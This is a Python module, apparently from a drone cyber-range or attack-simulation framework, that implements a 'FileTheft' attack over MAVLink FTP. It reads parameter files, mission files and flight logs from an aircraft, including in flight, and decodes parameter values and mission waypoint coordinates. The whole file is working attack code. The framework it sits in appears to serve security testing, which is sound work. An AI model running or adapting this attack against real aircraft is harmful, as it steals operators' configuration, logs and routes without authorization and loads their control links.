"""Theft of files: logs, parameters and missions are read from the aircraft by MAVLink FTP, in flight too."""

from __future__ import annotations

from typing import Annotated, Final

from pydantic import BeforeValidator, Field

import skyrange.plugin as sky
from skyrange.attack.bases.mavlink.file_client import FileClient, FileRequest
from skyrange.attack.tapped_links import LEARNED
from skyrange.codec.ardupilot_files import missions, parameters
from skyrange.codec.mavlink.file_transfer import DATA_BYTES, Opcode, Transfer
from skyrange.contracts.alerts import Scalar

MAX_FILES: Final = 1000
"""Files that it reads: an aircraft may list any number."""
MAX_BYTES: Final = 1 << 24
"""Bytes that it reads of a file, which an aircraft may never end."""
_Path = Annotated[str, Field(min_length=1, max_length=DATA_BYTES - 1, pattern=r"^[\x20-\x7e]+$")]


@sky.attack(
    "mavlink.file_read",
    technique="T0893",
    counterfactual="mute",
    persists="acts",
    effect="the attacker has logs, parameters and mission of the aircraft, and the answers load the link",
    knowledge="system ids, from any frame, and paths of files, which are public or listed",
    budget="one frame for each 239 bytes of a file, and three more for each file",
    load="none, because the answers are the load; the sham has requests without answers",
    content="none, because requests have no content",
    placement="the same requests to another aircraft",
)
class FileTheft(FileClient):
    """Reads files of the aircraft by MAVLink FTP; of a directory, those that it lists."""

    files: Annotated[
        tuple[_Path, ...], BeforeValidator(sky.items, json_schema_input_type=list[str]), Field(min_length=1)
    ] = sky.param(
        "Paths to read, in order; one that ends with a slash is a directory, whose files are read.",
        default=("@PARAM/param.pck", "@MISSION/mission.dat", "/APM/LOGS/"),
    )
    queue: list[str]
    """Paths that are still to be read; the first is being read."""
    listed: int = 0
    """Entries of the directory that were told."""
    content: bytearray = sky.state(bytearray)
    """What was read of the file."""
    stolen: dict[str, bytes] = sky.state(dict)
    """By path, the files that were read to their end."""
    news: list[dict[str, Scalar]] = sky.state(list)

    def prepare(self, context: sky.AttackContext) -> None:
        self.queue = list(self.files)

    def on_frame(self, now: sky.Time, frame: sky.Frame) -> sky.Verdicts:
        """Keep what is told; notes each file that was read, and what it says."""
        super().on_frame(now, frame)
        learned, self.news = self.news, []
        return [sky.Note(LEARNED, frame.link.partition(":")[2], data, (frame.id,)) for data in learned]

    def first_request(self) -> FileRequest:
        path = self.queue[0]
        if path.endswith("/"):
            return FileRequest(Opcode.LIST_DIRECTORY, path.encode(), self.listed)
        return FileRequest(Opcode.OPEN_FILE_RO, path.encode())

    def next_request(self, request: FileRequest, reply: Transfer | None) -> FileRequest | None:
        answered = reply is not None and reply.opcode == Opcode.ACK
        if request.opcode == Opcode.LIST_DIRECTORY and answered and reply is not None and self._list(reply.data):
            return self.first_request()
        if request.opcode in (Opcode.OPEN_FILE_RO, Opcode.READ_FILE) and reply is not None:
            if answered and len(self.content) < MAX_BYTES:
                self.content += reply.data if request.opcode == Opcode.READ_FILE else b""
                return FileRequest(Opcode.READ_FILE, b"", len(self.content), DATA_BYTES)
            if request.opcode == Opcode.READ_FILE:
                self._keep()
                return FileRequest(Opcode.TERMINATE_SESSION)
        self.queue.pop(0)
        self.listed = 0
        self.content.clear()
        return self.first_request() if self.queue else None

    def _list(self, data: bytes) -> bool:
        """Put the files of a listing behind the directory; whether there was an entry."""
        entries = [entry for entry in data.split(b"\0") if entry]
        self.listed += len(entries)
        for entry in entries:
            path = self.queue[0] + entry[1:].rpartition(b"\t")[0].decode("ascii", "replace")
            if entry.startswith(b"F") and len(path) < DATA_BYTES and len(self.queue) + len(self.stolen) < MAX_FILES:
                self.queue.append(path)
        return bool(entries) and self.listed < MAX_FILES

    def _keep(self) -> None:
        path, data = self.queue[0], bytes(self.content)
        self.stolen[path] = data
        self.news.append({"what": "file", "name": path, "bytes": len(data)})
        try:
            if path == parameters.PATH:
                for name, value in parameters.read_download(data):
                    self.news.append({"what": "parameters", "name": name, "value": f"{value:g}"})
            elif path == f"{missions.DIRECTORY}mission.dat":
                for number, item in enumerate(missions.read(data, missions.TYPES["mission.dat"]).items):
                    values = (float(item.command), item.x * 1e-7, item.y * 1e-7, item.z)
                    text = ", ".join(f"{value:g}" for value in values)
                    self.news.append({"what": "mission", "name": str(number), "value": text})
        except sky.DecodeError:
            return  # a file of another format is kept as it is
